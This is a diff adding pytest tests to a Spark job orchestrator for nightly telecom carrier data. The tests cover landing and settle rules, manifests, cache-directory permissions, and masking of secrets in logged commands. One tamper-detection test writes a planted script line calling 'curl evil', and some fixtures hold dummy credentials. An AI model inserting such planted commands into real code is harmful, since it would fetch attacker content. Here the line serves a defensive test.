@@ -2,8 +2,11 @@
 landed, the late-carrier decision, and the spark-submit command with its package zip."""
 import datetime as dt
 import json
+import os
+import stat
 import subprocess
 import sys
+import time
 import zipfile
 from pathlib import Path
 
@@ -11,6 +14,8 @@ import pytest
 
 from jobs import orchestrate
 from jobs.config import load_config
+from jobs.errors import CdrwatchError
+from jobs.manifest import Entry, write_manifest
 
 SHANGHAI = dt.timezone(dt.timedelta(hours=8))
 NIGHT = dt.date(2026, 11, 20)
@@ -34,6 +39,9 @@ def test_the_landing_deadline_counts_from_the_end_of_the_night():
     assert deadline < dt.datetime(2026, 11, 20, 17, 31, tzinfo=dt.timezone.utc)  # comparable with an aware "now"
 
 
+LATER = dt.datetime.now(dt.timezone.utc) + dt.timedelta(hours=1)   # long after the fixtures' files were written
+
+
 @pytest.fixture
 def landing(tmp_path):
     """cm delivered, cu only an upload in progress and a stray file, ct nothing."""
@@ -45,18 +53,102 @@ def landing(tmp_path):
 
 def test_only_files_ingest_would_read_count_as_landed(landing):
     config = load_config(overrides=[f"paths.landing={landing}"])
-    assert orchestrate.carrier_landed(config, "cm", NIGHT)
-    assert not orchestrate.carrier_landed(config, "cu", NIGHT)
-    assert not orchestrate.carrier_landed(config, "cm", NIGHT + dt.timedelta(days=1))
-    assert orchestrate.missing_carriers(config, NIGHT) == ["cu", "ct"]
+    assert orchestrate.carrier_landed(config, "cm", NIGHT, LATER)
+    assert not orchestrate.carrier_landed(config, "cu", NIGHT, LATER)
+    assert not orchestrate.carrier_landed(config, "cm", NIGHT + dt.timedelta(days=1), LATER)
+    assert orchestrate.missing_carriers(config, NIGHT, LATER) == ["cu", "ct"]
+    assert orchestrate.missing_carriers(config, NIGHT) == ["cm", "cu", "ct"]  # cm was written just now: not settled
+
+
+def at(timestamp: float, minutes: float) -> dt.datetime:
+    return dt.datetime.fromtimestamp(timestamp, dt.timezone.utc) + dt.timedelta(minutes=minutes)
+
+
+def test_a_carrier_lands_once_its_folder_has_not_changed_for_the_settle_time(tmp_path):
+    """A file that lands after the first one is waited for: the folder must be quiet for settle_minutes."""
+    config = load_config(overrides=[f"paths.landing={tmp_path}", "schedule.settle_minutes=10"])
+    folder = tmp_path / "cm" / NIGHT.isoformat()
+    folder.mkdir(parents=True)
+    (folder / "cm_1.csv").write_text("header\nline\n")
+    first = time.time()
+    assert orchestrate.landing_state(config, "cm", NIGHT, at(first, 5))[0] is False
+    assert orchestrate.landing_state(config, "cm", NIGHT, at(first, 5))[1].startswith("files still changing")
+    assert orchestrate.carrier_landed(config, "cm", NIGHT, at(first, 11))
+
+    time.sleep(0.05)
+    second = folder / "cm_2.csv"
+    second.write_text("header\nline\n")
+    os.utime(second, (first - 86400, first - 86400))   # copied keeping the sender's old mtime (rsync -t)
+    landed = os.stat(second).st_ctime
+    assert not orchestrate.carrier_landed(config, "cm", NIGHT, at(landed, 9))
+    assert orchestrate.carrier_landed(config, "cm", NIGHT, at(landed, 10.1))
+
+    zero = load_config(overrides=[f"paths.landing={tmp_path}", "schedule.settle_minutes=0"])
+    assert orchestrate.carrier_landed(zero, "cm", NIGHT)
+
+
+def test_a_carrier_with_only_empty_files_has_not_landed(tmp_path):
+    config = load_config(overrides=[f"paths.landing={tmp_path}", "schedule.settle_minutes=0"])
+    folder = tmp_path / "cu" / NIGHT.isoformat()
+    folder.mkdir(parents=True)
+    (folder / "cu_1.txt").write_bytes(b"")
+    (folder / "cu_2.txt").write_bytes(b"")
+    assert orchestrate.landing_state(config, "cu", NIGHT, LATER) == (False, "only empty files (cu_1.txt, cu_2.txt)")
+    deadline = dt.datetime(2026, 11, 21, 6, 0, tzinfo=SHANGHAI)
+    with pytest.raises(orchestrate.LateCarrier) as late:
+        orchestrate.check_landing(config, "cu", NIGHT, deadline, LATER)
+    assert str(late.value).startswith("cu: only empty files (cu_1.txt, cu_2.txt) for 2026-11-20 by the deadline ")
+    (folder / "cu_2.txt").write_bytes(b"x|y\n")
+    assert orchestrate.carrier_landed(config, "cu", NIGHT, LATER)
+
+
+def deliver(folder: Path, files: dict[str, bytes], listed: dict[str, int] | None = None) -> None:
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, data in files.items():
+        (folder / name).write_bytes(data)
+    if listed is not None:
+        write_manifest(folder, [Entry(name, rows, "0" * 64) for name, rows in listed.items()])
+
+
+def test_with_require_manifest_a_carrier_lands_when_its_manifest_lists_only_present_files(tmp_path):
+    config = load_config(overrides=[f"paths.landing={tmp_path}", "schedule.require_manifest=true"])
+    folder = tmp_path / "cm" / NIGHT.isoformat()
+    deliver(folder, {"cm_1.csv": b"h\na\n"})
+    assert orchestrate.landing_state(config, "cm", NIGHT, LATER) == (
+        False, "no _MANIFEST.csv (schedule.require_manifest)")
+    deliver(folder, {}, {"cm_1.csv": 1, "cm_2.csv": 1})
+    assert orchestrate.landing_state(config, "cm", NIGHT, LATER) == (
+        False, "an incomplete delivery (_MANIFEST.csv lists files missing: cm_2.csv)")
+    deliver(folder, {"cm_2.csv": b""})
+    assert orchestrate.landing_state(config, "cm", NIGHT, LATER) == (
+        False, "an incomplete delivery (_MANIFEST.csv lists files empty: cm_2.csv)")
+    deliver(folder, {"cm_2.csv": b"h\nb\n"})
+    now = dt.datetime.now(dt.timezone.utc)   # a manifest needs no settling: the carrier says it is done
+    assert orchestrate.landing_state(config, "cm", NIGHT, now) == (True, "_MANIFEST.csv with 2 file(s)")
+    (folder / "_MANIFEST.csv").write_text("file,rows\ncm_1.csv,1\n")
+    landed, what = orchestrate.landing_state(config, "cm", NIGHT, LATER)
+    assert not landed and what.startswith("an unreadable _MANIFEST.csv (") and ":1: expected the header" in what
+
+
+def test_a_manifest_counts_at_once_even_when_not_required(tmp_path):
+    config = load_config(overrides=[f"paths.landing={tmp_path}", "schedule.settle_minutes=60"])
+    folder = tmp_path / "ct" / NIGHT.isoformat()
+    deliver(folder, {"ct_1.jsonl.gz": b"\x1f\x8b..."})
+    now = dt.datetime.now(dt.timezone.utc)
+    assert not orchestrate.carrier_landed(config, "ct", NIGHT, now)
+    deliver(folder, {}, {"ct_1.jsonl.gz": 3})
+    assert orchestrate.carrier_landed(config, "ct", NIGHT, now)
+    deliver(folder, {}, {})   # a manifest listing nothing: the carrier had no records (ingest reports it)
+    assert orchestrate.carrier_landed(config, "ct", NIGHT, now)
 
 
 @pytest.mark.parametrize("policy", ["continue", "fail"])
 def test_a_missing_carrier_is_awaited_until_the_deadline_then_late(landing, policy):
-    config = load_config(overrides=[f"paths.landing={landing}", f"schedule.late_carrier={policy}"])
+    config = load_config(overrides=[f"paths.landing={landing}", f"schedule.late_carrier={policy}",
+                                    "schedule.settle_minutes=0"])
     deadline = dt.datetime(2026, 11, 21, 6, 0, tzinfo=SHANGHAI)
     before, after = deadline - dt.timedelta(seconds=1), deadline + dt.timedelta(seconds=1)
-    assert orchestrate.check_landing(config, "cm", NIGHT, deadline, after) is True
+    assert orchestrate.check_landing(config, "cm", NIGHT, deadline, LATER) is True
     assert orchestrate.check_landing(config, "ct", NIGHT, deadline, before) is False
     with pytest.raises(orchestrate.LateCarrier) as late:
         orchestrate.check_landing(config, "ct", NIGHT, deadline, after)
@@ -115,6 +207,73 @@ def test_spark_submit_runs_the_cli_in_client_mode_with_the_package_and_the_conf(
                                     "--set", "detectors.goip.min_score=0.7"]
 
 
+def test_the_bundle_lives_in_a_private_per_user_cache(tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    assert orchestrate.default_cache_dir() == tmp_path / "xdg" / "cdrwatch" / "submit"
+    package, entry = orchestrate.submit_bundle()
+    assert package.parent.parent == tmp_path / "xdg" / "cdrwatch" / "submit"
+    for folder in (package.parent, package.parent.parent):
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert stat.S_IMODE(package.stat().st_mode) == 0o600
+    monkeypatch.delenv("XDG_CACHE_HOME")
+    assert orchestrate.default_cache_dir() == Path.home() / ".cache" / "cdrwatch" / "submit"
+
+
+def test_a_shared_or_foreign_cache_dir_is_refused(tmp_path, monkeypatch):
+    shared = tmp_path / "shared"
+    shared.mkdir(mode=0o777)
+    shared.chmod(0o777)   # what a folder in /tmp made by someone else's umask looks like
+    with pytest.raises(CdrwatchError, match=r"shared: the spark-submit cache is writable by others \(mode 777\)"):
+        orchestrate.submit_bundle(shared)
+
+    real_uid = os.getuid()
+    mine = tmp_path / "mine"
+    orchestrate.submit_bundle(mine)
+    monkeypatch.setattr(orchestrate.os, "getuid", lambda: real_uid + 1)
+    with pytest.raises(CdrwatchError,
+                       match=rf"mine: the spark-submit cache is owned by uid {real_uid}, not by this user"):
+        orchestrate.submit_bundle(mine)
+    monkeypatch.undo()
+
+    (tmp_path / "link").symlink_to(mine)
+    with pytest.raises(CdrwatchError, match="must be a real directory, not a link"):
+        orchestrate.submit_bundle(tmp_path / "link")
+
+
+def test_a_cached_bundle_is_checked_by_hash_and_rewritten_when_it_differs(tmp_path):
+    package, entry = orchestrate.submit_bundle(tmp_path)
+    package.write_bytes(b"PK planted by someone else")
+    entry.write_text("import os; os.system('curl evil')\n")
+    again = orchestrate.submit_bundle(tmp_path)
+    assert again == (package, entry)
+    assert package.read_bytes() == orchestrate.package_zip_bytes()
+    assert entry.read_text() == orchestrate.ENTRY_SCRIPT
+    before = package.stat().st_mtime_ns
+    orchestrate.submit_bundle(tmp_path)
+    assert package.stat().st_mtime_ns == before   # a good file found is used as it is
+
+
+def test_the_logged_submit_command_masks_spark_extra_values(tmp_path, capsys):
+    conf_file = tmp_path / "site.yaml"
+    conf_file.write_text("spark: {master: 'spark://10.0.0.5:7077', extra: {spark.hadoop.fs.s3a.secret.key: s3cr3t}}\n")
+    config = load_config(conf_file)
+    args = orchestrate.cli_args("detect", NIGHT, conf_file, ("spark.extra.spark.hadoop.fs.s3a.access.key=AKIA9",))
+    command = orchestrate.spark_submit_command(config, args, conf_file, cache_dir=tmp_path / "cache")
+    assert "spark.hadoop.fs.s3a.secret.key=s3cr3t" in command        # the real command keeps the value
+    shown = orchestrate.masked(command)
+    assert shown[shown.index("--conf") + 1] == "spark.hadoop.fs.s3a.secret.key=***"
+    assert shown[-1] == "spark.extra.spark.hadoop.fs.s3a.access.key=***"
+    assert shown[-3] == str(conf_file.resolve())                     # cdrwatch's own --conf file stays readable
+    assert len(shown) == len(command)
+
+    # stream logs the masked line and runs the real one
+    probe = [sys.executable, "-c", "import sys; print('got', sys.argv[-1])", "--conf", "spark.x.password=hunter2"]
+    assert orchestrate.stream(probe, dict(os.environ)) == 0
+    out = capsys.readouterr().out.splitlines()
+    assert out[0].endswith(" --conf spark.x.password=***") and "hunter2" not in out[0]
+    assert out[1] == "got spark.x.password=hunter2"
+
+
 def test_the_driver_and_its_python_workers_run_this_interpreter(monkeypatch):
     monkeypatch.delenv("PYSPARK_PYTHON", raising=False)
     monkeypatch.delenv("PYSPARK_DRIVER_PYTHON", raising=False)
@@ -137,8 +296,8 @@ def test_validation_results_are_read_back_per_carrier(tmp_path):
         {"success": False, "suspect": True, "row_count": 7, "volume": "suspect: 7 rows", "gx_result": {
             "statistics": {"successful_expectations": 21, "evaluated_expectations": 22}},
          "failures": ["expect_column_values_to_be_between(duration_s): 1 of 7 rows are outside 0..86400"]}))
-    lines, passed = orchestrate.validation_lines(config, NIGHT)
-    assert not passed
+    lines, usable = orchestrate.validation_lines(config, NIGHT)
+    assert usable  # cm passed: a failed carrier-day is in quarantine, the night goes on partial
     assert lines == [
         "cm: GX suite passed (22/22 expectations met, 120 rows); volume no history yet",
         "cu: GX suite FAILED (21/22 expectations met, 7 rows); volume suspect: 7 rows"
@@ -146,3 +305,13 @@ def test_validation_results_are_read_back_per_carrier(tmp_path):
         "  expect_column_values_to_be_between(duration_s): 1 of 7 rows are outside 0..86400",
         "partial night: no files from ct",
     ]
+    summary = json.loads((runs / "summary.json").read_text())
+    (runs / "summary.json").write_text(json.dumps({**summary, "partial_reasons": [
+        "ct: no files for 2026-11-20", "cu: failed validation (...); its rows are in quarantine"]}))
+    lines, _ = orchestrate.validation_lines(config, NIGHT)
+    assert lines[-2:] == ["partial night: ct: no files for 2026-11-20",
+                          "partial night: cu: failed validation (...); its rows are in quarantine"]
+    (runs / "validation_cm.json").write_text(json.dumps(
+        {"success": False, "suspect": False, "row_count": 0, "volume": "no history yet", "failures": ["x"],
+         "gx_result": stats}))
+    assert orchestrate.validation_lines(config, NIGHT)[1] is False  # nothing passed: the night cannot go on
